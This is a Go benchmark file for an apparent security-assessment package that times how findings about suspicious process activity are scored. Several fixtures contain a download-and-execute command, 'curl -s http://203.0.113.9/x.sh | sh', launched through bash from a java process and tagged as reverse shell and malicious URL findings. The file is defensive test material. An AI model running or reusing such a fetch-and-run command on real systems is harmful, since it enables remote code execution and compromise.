package assess

import "testing"

func BenchmarkLoadDefault(b *testing.B) {
	for b.Loop() {
		if _, err := LoadDefault(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAssess is one whole assessment: reading the command, all rules, the
// plan. The aim is at most 100 µs.
func BenchmarkAssess(b *testing.B) {
	p := mustDefault(b)
	in := input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed"))
	b.ReportAllocs()
	for b.Loop() {
		p.Assess(in)
	}
}

// BenchmarkConclude is the policy alone, with company whose standing is known.
func BenchmarkConclude(b *testing.B) {
	p := mustDefault(b)
	s := newSubject(known(p, input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed")), complete()))
	b.ReportAllocs()
	for b.Loop() {
		p.conclude(s)
	}
}

// BenchmarkOwn is the estimate of a member whose standing is not known.
func BenchmarkOwn(b *testing.B) {
	p, in := mustDefault(b), Input{Finding: other("Reverse Shell")}
	b.ReportAllocs()
	for b.Loop() {
		p.Own(in)
	}
}

func BenchmarkSubject(b *testing.B) {
	in := input(childShell("java", "bash", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
		deployed(complete(), "alice@example.com", 3), other("Reverse Shell"), other("Malicious URL Observed"))
	b.ReportAllocs()
	for b.Loop() {
		newSubject(in)
	}
}
